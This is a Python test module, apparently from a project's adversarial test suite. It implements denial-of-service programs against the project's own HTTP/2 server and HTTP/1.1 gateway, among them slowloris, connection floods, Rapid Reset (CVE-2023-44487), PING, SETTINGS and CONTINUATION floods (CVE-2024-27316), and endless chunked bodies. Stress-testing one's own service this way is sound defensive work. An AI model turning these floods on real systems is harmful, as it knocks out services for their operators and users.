"""Attacks on HTTP/2 and on the gateway's HTTP/1.1: half-open, slow and senseless connections."""

import asyncio
from collections.abc import Awaitable, Callable
from contextlib import suppress

from tests.adversary.programs.floods import KEYS
from tests.adversary.programs.frames import (
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    PING,
    RESET,
    SETTINGS,
    connected,
    frame,
    header_block,
    message,
)
from tests.adversary.programs.program import Program, Run

from lostcities.v1 import server_pb2

SLOW_S = 0.2
"""Time between two bytes of a slow client."""
BURST = 50
JSON = "Content-Type: application/json"
CHUNK = b"10000\r\n" + bytes(0x10000) + b"\r\n"
"""A chunk of a body of HTTP/1.1."""
CANCEL = (8).to_bytes(4, "big")


async def _hold(run: Run) -> None:
    async def attack(_: int) -> None:
        async with connected(run) as client:
            await client.until_closed()

    await run.on_all(attack)


async def _churn(run: Run) -> None:
    async def attack(_: int) -> None:
        async with connected(run):
            pass

    await run.on_all(attack)


async def _slow_requests(run: Run) -> None:
    body = message(server_pb2.GetKeysRequest().SerializeToString())
    block = header_block(KEYS)

    async def attack(_: int) -> None:
        async with connected(run) as client:
            for _call in range(10):
                await client.call(block, body[:1], is_finished=False)
            await client.until_closed()

    await run.on_all(attack)


async def _slow_frames(run: Run) -> None:
    block = header_block(KEYS)

    async def attack(_: int) -> None:
        async with connected(run) as client:
            data = frame(HEADERS, END_HEADERS, client.next_stream(), block)
            async for number in run.turns(SLOW_S):
                await client.send(data[number : number + 1] or frame(PING, 0, 0, bytes(8)))

    await run.on_all(attack)


async def _rapid_resets(run: Run) -> None:
    block = header_block(KEYS)

    async def attack(_: int) -> None:
        async with connected(run) as client:
            async for _turn in run.turns():
                streams = [client.next_stream() for _ in range(BURST)]
                await client.send(
                    b"".join(
                        frame(HEADERS, END_HEADERS, stream, block) + frame(RESET, 0, stream, CANCEL)
                        for stream in streams
                    )
                )

    await run.on_all(attack)


def _same_frames(data: bytes, begin: bytes = b"") -> Callable[[Run], Awaitable[None]]:
    async def run_flood(run: Run) -> None:
        async def attack(_: int) -> None:
            async with connected(run) as client:
                await client.send(begin)
                async for _turn in run.turns():
                    await client.send(data * BURST)

        await run.on_all(attack)

    return run_flood


def _web(line: str, *headers: str, more: bytes = b"", pause_s: float = 0.0) -> Callable[[Run], Awaitable[None]]:
    """Return an attack on the gateway.

    It begins a request on each connection, and sends more of it for as long as the gateway takes it.
    """

    async def run_requests(run: Run) -> None:
        host, _, port = run.target.web.rpartition(":")
        own = (f"Host: {run.target.web}", f"Origin: http://{run.target.web}")
        first = "".join(f"{each}\r\n" for each in (line, *own, *headers)).encode("ascii")

        async def attack(_: int) -> None:
            reader, writer = await asyncio.open_connection(host, int(port), local_addr=(run.target.source, 0))
            run.note_connection()
            run.tally.calls += 1
            answer = asyncio.create_task(_note_answer(run, reader))
            try:
                writer.write(first)
                async for _turn in run.turns(pause_s):
                    if answer.done():
                        raise ConnectionResetError
                    writer.write(more)
                    run.tally.bytes += len(more)
                    await writer.drain()
            finally:
                writer.transport.abort()
                answer.cancel()

        await run.on_all(attack)

    return run_requests


async def _note_answer(run: Run, reader: asyncio.StreamReader) -> None:
    """Count the status of an answer, and read until the gateway closes the connection."""
    with suppress(OSError):
        if status := await reader.readline():
            run.tally.note("HTTP " + status.decode().split()[1])
        while await reader.read(65_536):
            pass


PROTOCOL = (
    Program(
        "slow requests",
        "Begin calls on many connections and never send the rest of their requests (slowloris).",
        _slow_requests,
        connections=200,
    ),
    Program("slow frames", "Send the headers of a call byte by byte.", _slow_frames, connections=200),
    Program(
        "connection flood",
        "Open connections and call nothing, more of them than one network may have.",
        _hold,
        connections=1_200,
    ),
    Program("connection churn", "Connect and leave, again and again.", _churn, connections=20),
    Program(
        "rapid resets",
        "Begin calls and cancel each at once, so that they never count as open (CVE-2023-44487).",
        _rapid_resets,
        connections=4,
    ),
    Program("PING flood", "Send pings, each of which wants an answer.", _same_frames(frame(PING, 0, 0, bytes(8))), 4),
    Program("SETTINGS flood", "Send settings, each of which wants an answer.", _same_frames(frame(SETTINGS, 0, 0)), 4),
    Program(
        "CONTINUATION flood",
        "Begin headers that never end, for a server that keeps them all (CVE-2024-27316).",
        _same_frames(frame(CONTINUATION, 0, 1, b"\0\1a\1b" * 200), begin=frame(HEADERS, 0, 1, b"")),
        4,
    ),
    Program(
        "gateway: slow requests",
        "Send headers to the gateway line by line.",
        _web("GET / HTTP/1.1", more=b"X-More: 1\r\n", pause_s=SLOW_S),
        connections=200,
    ),
    Program(
        "gateway: oversized bodies",
        "Send the gateway bodies without an end.",
        _web("POST /api/session HTTP/1.1", JSON, "Transfer-Encoding: chunked", "", more=CHUNK),
        connections=10,
    ),
    Program(
        "gateway: many streams",
        "Open streams of changes at the gateway, more than one address may have.",
        _web("GET /api/changes HTTP/1.1", "", pause_s=SLOW_S),
        connections=600,
    ),
)
